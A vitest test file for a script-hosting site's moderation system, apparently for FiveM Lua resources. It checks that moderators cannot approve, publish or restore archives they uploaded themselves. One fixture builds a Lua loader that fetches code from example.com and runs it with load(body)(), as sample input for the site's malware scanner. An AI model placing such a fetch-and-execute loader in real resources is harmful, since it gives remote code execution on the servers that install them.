import { beforeEach, expect, test } from 'vitest'

import type { ReviewMode } from '#contract/site/settings.ts'
import { zipOf } from '#test-support/archives/zip.ts'
import { analyseAll } from '#test-support/analyses.ts'
import { casesOf } from '#test-support/cases.ts'
import { editForm, scriptForm } from '#test-support/script-forms.ts'
import { startTestApp, type TestUser } from '#test-support/test-app.ts'

const app = await startTestApp()
const { appeal, decide, read, report } = casesOf(app)
const owner = await app.createOwner()
const author = await app.createUser('scripts.upload')
const member = await app.createUser()
const rights = ['admin.system.access', 'admin.scripts.moderate', 'scripts.upload'] as const
const moderator = await app.createUser(...rights)
const other = await app.createUser(...rights)

let count = 0
function archiveOf(loader: string) {
  const name = `hud${++count}`
  const files = {
    'fxmanifest.lua': `fx_version 'cerulean'\nserver_script 'loader.lua'\n`,
    'loader.lua': loader,
  }
  const entries = Object.entries(files).map(([file, content]) => ({ name: `${name}/${file}`, content }))
  return { fileName: 'hud.zip', content: zipOf(entries) }
}
const clean = () => archiveOf(`print(${count})`)
const high = () =>
  archiveOf(`PerformHttpRequest('https://example.com/${count}', function(_, body) load(body)() end)\n`)

const send = (
  user: TestUser | null,
  method: string,
  path: string,
  body?: FormData | Record<string, unknown>,
) => app.request(user, method, path, body)
const setMode = async (reviewMode: ReviewMode) =>
  expect((await send(owner, 'PUT', '/api/settings', { reviewMode })).status).toBe(200)
const submit = async (user: TestUser, archive: ReturnType<typeof archiveOf>) =>
  (await send(user, 'POST', '/api/scripts', await scriptForm({}, { archive }))).body
const add = async (user: TestUser, scriptId: number, archive: ReturnType<typeof archiveOf>) =>
  (await send(user, 'POST', `/api/scripts/${scriptId}/versions`, editForm({}, { archive }))).body
const versionOf = async (id: number) => (await send(owner, 'GET', `/api/versions/${id}`)).body
const stateOf = async (id: number) => (await versionOf(id)).state
const caseOf = async (versionId: number): Promise<number> => (await versionOf(versionId)).reviewId
const withdraw = (user: TestUser, id: number, kind = 'other') =>
  send(user, 'POST', `/api/versions/${id}/withdraw`, { kind, reason: 'Not ready for the public yet.' })
const restore = (user: TestUser, id: number) => send(user, 'POST', `/api/versions/${id}/restore`)

async function highFindingOf(versionId: number) {
  const { body } = await send(owner, 'GET', `/api/versions/${versionId}/report`)
  const { rule, fileSha256 } = body.findings.find(({ severity }: { severity: string }) => severity === 'high')
  return { rule, fileSha256 }
}
const verdictPath = ({ rule, fileSha256 }: { rule: string; fileSha256: string }) =>
  `/api/finding-verdicts/${rule}/${fileSha256}`
const accepted = { verdict: 'accepted', note: 'It reads the list of versions.' }

beforeEach(() => setMode('flagged'))

test('a moderator accepts no finding in a file that they uploaded, neither alone nor with the decision of another case', async () => {
  const own = await submit(moderator, high())
  const foreign = await submit(author, high())
  await analyseAll(app)
  const finding = await highFindingOf(own.versionId)
  const caseId = await caseOf(foreign.versionId)

  for (const method of ['PUT', 'DELETE'])
    expect(
      await send(moderator, method, verdictPath(finding), method === 'PUT' ? accepted : undefined),
    ).toMatchObject({
      status: 403,
      body: { error: 'You uploaded this file. Another moderator must decide about it.' },
    })
  const actions = { accept: [finding] }
  expect((await decide(moderator, caseId, 'published', { response: '', actions })).status).toBe(403)

  expect((await read(owner, caseId)).body.state).toBe('open')
  expect(await highFindingOf(own.versionId)).toEqual(finding)
  expect(await stateOf(own.versionId)).toBe('waiting')
  expect((await send(other, 'PUT', verdictPath(finding), accepted)).status).toBe(204)
})

test('a moderator who deletes their script still decides about neither its file nor the same archive of another author', async () => {
  const archive = high()
  const own = await submit(moderator, archive)
  const copy = await submit(author, archive)
  await analyseAll(app)
  const finding = await highFindingOf(own.versionId)
  const caseId = await caseOf(copy.versionId)

  expect((await send(moderator, 'DELETE', `/api/scripts/${own.id}`)).status).toBe(204)

  expect((await send(moderator, 'PUT', verdictPath(finding), accepted)).status).toBe(403)
  expect((await decide(moderator, caseId, 'published', { response: '' })).status).toBe(403)
  expect(await stateOf(copy.versionId)).toBe('waiting')
  expect((await decide(other, caseId, 'published', { response: '' })).status).toBe(200)
})

test('a moderator who deletes their script accepts no finding in its file, which nothing else has', async () => {
  const own = await submit(moderator, high())
  await analyseAll(app)
  const finding = await highFindingOf(own.versionId)

  expect((await send(moderator, 'DELETE', `/api/scripts/${own.id}`)).status).toBe(204)

  expect((await send(moderator, 'PUT', verdictPath(finding), accepted)).status).toBe(403)
  expect((await send(other, 'PUT', verdictPath(finding), accepted)).status).toBe(204)
})

test('a version that waited waits again after it was withdrawn and restored, also when its finding was accepted meanwhile', async () => {
  for (const user of [moderator, author]) {
    const { versionId } = await submit(user, high())
    await analyseAll(app)
    const finding = await highFindingOf(versionId)
    expect((await send(other, 'PUT', verdictPath(finding), accepted)).status).toBe(204)

    expect((await withdraw(user, versionId)).status).toBe(200)
    expect((await restore(user, versionId)).status).toBe(200)
    await setMode('off')
    await analyseAll(app)

    expect(await stateOf(versionId)).toBe('waiting')
    const id = await caseOf(versionId)
    expect((await read(user, id)).body).toMatchObject({ kind: 'review', reason: 'high-finding' })
    expect((await decide(other, id, 'published', { response: '' })).status).toBe(200)
    expect(await stateOf(versionId)).toBe('published')
    await setMode('flagged')
  }
})

test('a version that a moderator rejected waits again when another one restores it', async () => {
  const { versionId } = await submit(author, high())
  await analyseAll(app)
  expect((await decide(other, await caseOf(versionId), 'rejected')).status).toBe(200)
  await setMode('off')

  expect((await restore(owner, versionId)).status).toBe(200)
  await analyseAll(app)

  expect(await stateOf(versionId)).toBe('waiting')
})

test('an approved version that its author withdrew is public again when they restore it', async () => {
  const { versionId } = await submit(author, high())
  await analyseAll(app)
  await decide(other, await caseOf(versionId), 'published', { response: '' })
  await withdraw(author, versionId)

  expect((await restore(author, versionId)).body.state).toBe('published')
})

test('a withdrawn version waits when its archive was put on the blocklist before it is restored', async () => {
  await setMode('off')
  const { id, versionId, sha256 } = await submit(author, clean())
  await analyseAll(app)
  await withdraw(author, versionId)
  const entry = { kind: 'archive', value: sha256, reason: 'Taken down on a notice.' }
  expect((await send(owner, 'POST', '/api/moderation/blocklist', entry)).status).toBe(201)

  expect((await restore(author, versionId)).body.state).toBe('scanning')
  expect((await send(null, 'GET', `/api/scripts/${id}`)).status).toBe(404)
  await analyseAll(app)

  expect(await stateOf(versionId)).toBe('waiting')
})

test('a moderator does not publish a version that they uploaded for its author, at no step', async () => {
  await setMode('off')
  const script = await submit(author, clean())
  await analyseAll(app)
  await setMode('all')
  const version = await add(moderator, script.id, high())
  const publish = (user: TestUser) => send(user, 'POST', `/api/scripts/${script.id}/publish`)

  expect(await stateOf(version.id)).toBe('scanning')
  expect(await publish(moderator)).toMatchObject({
    status: 403,
    body: { error: 'You uploaded this archive. Another moderator must decide about it.' },
  })
  await analyseAll(app)
  expect((await publish(moderator)).status).toBe(403)
  expect((await decide(other, await caseOf(version.id), 'rejected')).status).toBe(200)
  expect((await restore(moderator, version.id)).status).toBe(403)
  const { body: appealed } = await appeal(author, { withdrawnVersionId: version.id })
  expect((await decide(moderator, appealed.id, 'granted')).status).toBe(403)
  expect((await read(moderator, appealed.id)).body).toMatchObject({
    canDecide: false,
    blockedBy: 'You take part in this case. Another user must decide it.',
  })
  expect(await stateOf(version.id)).toBe('withdrawn')

  expect((await decide(owner, appealed.id, 'granted')).status).toBe(200)
  expect(await stateOf(version.id)).toBe('published')
})

test('a moderator does not decide about the same archive in the script of another author', async () => {
  const archive = high()
  await submit(moderator, archive)
  const copy = await submit(author, archive)
  await analyseAll(app)
  const id = await caseOf(copy.versionId)

  expect((await send(moderator, 'POST', `/api/moderation/cases/${id}/claim`)).status).toBe(403)
  expect((await decide(moderator, id, 'published')).status).toBe(403)
  expect((await send(moderator, 'POST', `/api/scripts/${copy.id}/publish`)).status).toBe(403)
  expect(await stateOf(copy.versionId)).toBe('waiting')
})

test('a moderator neither dismisses a report of a version that they uploaded, nor restores its script that another one hid', async () => {
  await setMode('off')
  const script = await submit(author, clean())
  const version = await add(moderator, script.id, clean())
  await analyseAll(app)
  const { body: reported } = await report(member, { versionId: version.id })
  const path = `/api/scripts/${script.id}/removal`
  const removal = { reason: 'stolen', note: '' }

  expect((await decide(moderator, reported.id, 'dismissed')).status).toBe(403)
  expect((await send(other, 'POST', path, removal)).status).toBe(201)
  expect(await send(moderator, 'DELETE', path)).toMatchObject({
    status: 403,
    body: { error: 'You uploaded an archive of this script. Another moderator must restore it.' },
  })
  expect((await send(other, 'DELETE', path)).status).toBe(200)
  expect((await send(moderator, 'POST', path, removal)).status).toBe(201)
  expect((await send(moderator, 'DELETE', path)).status).toBe(200)
})

test('a moderator who uploaded an archive of a hidden script does not restore it, also by undoing a bulk act', async () => {
  await setMode('off')
  const [banning, undoing] = [await app.createUser(), await app.createUser()]
  const keys = [...rights, 'admin.users.ban', 'admin.users.list'] as const
  for (const { id } of [banning, undoing]) await app.joinGroup(id, `marshals ${id}`, 50, [...keys])
  const hideAll = async (userId: number) => {
    const body = { ids: [userId], reason: 'Spam', is_permanent: true, hide_scripts: 'spam' }
    const banned = await send(banning, 'POST', '/api/users/admin/bans/bulk', body)
    expect(banned).toMatchObject({ status: 200, body: { results: [{ done: true, scripts: 1 }] } })
    return `/api/users/admin/bulk-acts/${banned.body.act_id}/undo`
  }
  const reason = 'You uploaded an archive of this script. Another moderator must restore it.'
  for (const uploads of [
    // A version of the script, and the same archive in a script of the moderator.
    async (scriptId: number) => await add(undoing, scriptId, clean()),
    async (_scriptId: number, archive: ReturnType<typeof archiveOf>) => await submit(undoing, archive),
  ]) {
    const banned = await app.createUser('scripts.upload')
    const archive = clean()
    const script = await submit(banned, archive)
    await uploads(script.id, archive)
    await analyseAll(app)
    const undo = await hideAll(banned.id)

    expect((await send(undoing, 'POST', undo)).body.results).toMatchObject([{ done: false, reason }])

    expect((await send(null, 'GET', `/api/scripts/${script.id}`)).status).toBe(404)
    expect((await send(undoing, 'DELETE', `/api/scripts/${script.id}/removal`)).status).toBe(403)
    expect((await send(other, 'DELETE', `/api/scripts/${script.id}/removal`)).status).toBe(200)
  }
})
